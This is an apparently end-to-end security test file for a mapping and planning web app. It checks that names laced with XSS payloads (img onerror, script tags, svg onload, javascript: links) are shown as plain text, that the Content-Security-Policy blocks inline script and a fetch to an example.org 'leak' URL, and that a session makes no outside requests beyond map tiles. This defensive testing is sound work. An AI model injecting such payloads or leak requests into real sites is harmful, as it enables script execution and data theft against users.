/**
 * Hostile text and the network: names with markup and `javascript:` links are shown as text and
 * nothing runs; a full session sends requests only to the app itself, and to the tile server of
 * an online basemap only while that basemap is chosen; the Content-Security-Policy is in force
 * and nothing in a session violates it.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import type { Page, Request } from 'playwright-core';
import { newPage, openApp, screenshot, sharedBrowser, waitForMapIdle, watchPage } from './browser';
import { ProjectFileWriter } from '../../src/io/project-file/write';
import { TABLE_NAMES, type ProjectSnapshot } from '../../src/domain/types';
import { demoSnapshot } from '../fixtures/projects/large-project';
import { concatBytes } from '../unit/io/project-file-helpers';
import { importProjectFromMenu } from './project-helpers';

const baseUrl = inject('baseUrl');
const browser = sharedBrowser();

const HOSTILE = {
  image: '<img src=x onerror="window.__pwned=1">',
  script: '<script>window.__pwned=2</script>',
  link: 'javascript:window.__pwned=3',
  svg: '<svg onload="window.__pwned=4"></svg>',
};

/** The demo project with hostile names in every place a name is shown. */
function hostileProjectFile(): string {
  const snapshot = structuredClone(demoSnapshot) as ProjectSnapshot;
  const project = snapshot.projects[0]!;
  project.name = `Projekt ${HOSTILE.image}`;
  project.isDemo = false;
  project.description = HOSTILE.script;
  project.categories = [{ id: 'custom-1', label: HOSTILE.svg, color: '#E69F00', icon: 'kita', ageFromYears: 0, ageToYears: 6 }];
  snapshot.spaces[0]!.name = HOSTILE.image;
  snapshot.spaces[1]!.name = HOSTILE.link;
  snapshot.variants[0]!.name = HOSTILE.script;
  const resource = snapshot.resources[0]!;
  Object.assign(resource, { name: HOSTILE.image, address: HOSTILE.link, provider: HOSTILE.script, category: 'custom-1', attributes: { contact: HOSTILE.link, website: HOSTILE.link } });
  const writer = new ProjectFileWriter(Date.UTC(2026, 0, 1));
  for (const table of TABLE_NAMES) writer.addTable(table, snapshot[table] as never[]);
  const path = join(mkdtempSync(join(tmpdir(), 'atlas-hostile-')), 'feindlich.sozialraum');
  writeFileSync(path, concatBytes(writer.finish(project)));
  return path;
}

/** Every request of the context: pages, their workers and the service worker. */
function recordRequests(page: Page): Request[] {
  const requests: Request[] = [];
  page.context().on('request', (request) => requests.push(request));
  return requests;
}

describe('security', () => {
  it('shows hostile names as text: no markup is interpreted, no script runs, no javascript: link exists', async () => {
    const page = await newPage(browser());
    const watched = watchPage(page, baseUrl);
    await openApp(page, baseUrl);
    await importProjectFromMenu(page, hostileProjectFile());
    await page.keyboard.press('Escape');
    await page.waitForFunction((name) => document.querySelector('[data-testid="project-name"]')?.textContent === name, `Projekt ${HOSTILE.image}`);
    await waitForMapIdle(page);
    // The space list, the variant bar and the description show the text as it is.
    await expect(page.locator('[data-testid="space-list"]').textContent()).resolves.toContain(HOSTILE.image);
    await expect(page.locator('[data-testid="space-list"]').textContent()).resolves.toContain(HOSTILE.link);
    await expect(page.textContent('body')).resolves.toContain(HOSTILE.script);
    // Resources: list, and the card of the hostile one.
    await page.click('[data-testid="tab-resources"]');
    await page.fill('[data-testid="resource-search"]', 'onerror');
    const hostile = page.locator('[data-testid="resource-list"] button.resource').first();
    await expect(hostile.textContent()).resolves.toContain(HOSTILE.image);
    await hostile.click();
    await page.waitForTimeout(500);
    await expect(page.textContent('body')).resolves.toContain(HOSTILE.link);
    await screenshot(page, 'security-hostile-names');

    const found = await page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      images: document.querySelectorAll('img[src="x"], img[src$="/x"]').length,
      svgHandlers: document.querySelectorAll('svg[onload]').length,
      scripts: [...document.scripts].filter((script) => script.textContent?.includes('__pwned')).length,
      javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
    }));
    expect(found).toEqual({ pwned: null, images: 0, svgHandlers: 0, scripts: 0, javascriptLinks: 0 });
    expect(watched.errors).toEqual([]);
    await page.context().close();
  });

  it('runs under the Content-Security-Policy: no unsafe-inline or unsafe-eval, inline script and foreign connections refused', async () => {
    const page = await newPage(browser());
    const watched = watchPage(page, baseUrl);
    await openApp(page, baseUrl);
    const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    expect(policy).toContain("script-src 'self'");
    expect(policy).not.toContain('unsafe-inline');
    expect(policy).not.toContain('unsafe-eval');
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inline = true;';
      document.body.append(script);
      let fetchRefused = false;
      try {
        await fetch('https://example.org/leak?data=1');
      } catch {
        fetchRefused = true;
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { inlineRan: (window as unknown as { __inline?: boolean }).__inline === true, fetchRefused, violations };
    });
    expect(outcome.inlineRan).toBe(false);
    expect(outcome.fetchRefused).toBe(true);
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
    // The refusals above are reported on the console; nothing else is.
    expect(watched.errors.filter((message) => !/Content Security Policy|example\.org|unsafe-eval|Failed to fetch/.test(message))).toEqual([]);
    await page.context().close();
  });

  it('a full session sends nothing but requests to the app, and tile requests only while an online basemap is chosen', async () => {
    const page = await newPage(browser());
    const requests = recordRequests(page);
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/.test(message.text())) violations.push(message.text());
    });
    await openApp(page, baseUrl);
    // Work with the project: select a space, rename it, undo, the other panels, a project file out and in.
    await page.locator('[data-testid="space-list"] li button.space').first().click();
    await page.click('[data-testid="tab-resources"]');
    await page.fill('[data-testid="resource-search"]', 'Kita');
    await page.click('[data-testid="tab-demand"]');
    await page.waitForSelector('[data-testid="demand-table"]');
    await page.click('[data-testid="project-menu"]');
    await page.click('[data-testid="project-export"]');
    await page.click('[data-testid="project-export-start"]');
    await page.waitForSelector('[data-testid="project-file-done"]');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="project-export-save"]')]);
    await page.keyboard.press('Escape');
    await importProjectFromMenu(page, (await download.path())!);
    await page.keyboard.press('Escape');
    await page.click('[data-testid="tab-spaces"]');
    await waitForMapIdle(page);
    const offline = requests.length;
    const foreignOffline = requests.filter((request) => !request.url().startsWith(baseUrl) && !/^(blob|data):/.test(request.url()));
    expect(foreignOffline.map((request) => request.url())).toEqual([]);
    expect(requests.filter((request) => request.method() !== 'GET').map((request) => `${request.method()} ${request.url()}`)).toEqual([]);

    // Choose the OpenStreetMap basemap (no internet here: its tiles are answered locally).
    const tile = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
    await page.context().route('https://tile.openstreetmap.org/**', (route) => route.fulfill({ body: tile, contentType: 'image/png' }));
    const firstTile = page.context().waitForEvent('request', { predicate: (request) => request.url().startsWith('https://tile.openstreetmap.org/'), timeout: 30_000 });
    await page.click('button:has-text("Einstellungen")');
    await page.check('input[name="basemap"][value="osm-raster"]');
    await page.keyboard.press('Escape');
    await firstTile;
    await waitForMapIdle(page);
    const online = requests.slice(offline).filter((request) => !request.url().startsWith(baseUrl));
    expect(online.length).toBeGreaterThan(0);
    for (const request of online) {
      expect(request.url()).toMatch(/^https:\/\/tile\.openstreetmap\.org\/\d+\/\d+\/\d+\.png$/);
      expect(request.method()).toBe('GET');
      expect(request.postData()).toBeNull();
    }
    // Back to the offline map: no request leaves the machine any more.
    await page.click('button:has-text("Einstellungen")');
    await page.check('input[name="basemap"][value="offline"]');
    await page.keyboard.press('Escape');
    await waitForMapIdle(page);
    const afterwards = requests.length;
    await page.mouse.move(800, 400);
    await page.mouse.wheel(0, -400);
    await waitForMapIdle(page);
    expect(requests.slice(afterwards).filter((request) => !request.url().startsWith(baseUrl)).map((request) => request.url())).toEqual([]);
    expect(violations).toEqual([]);
    await page.context().close();
  });
});
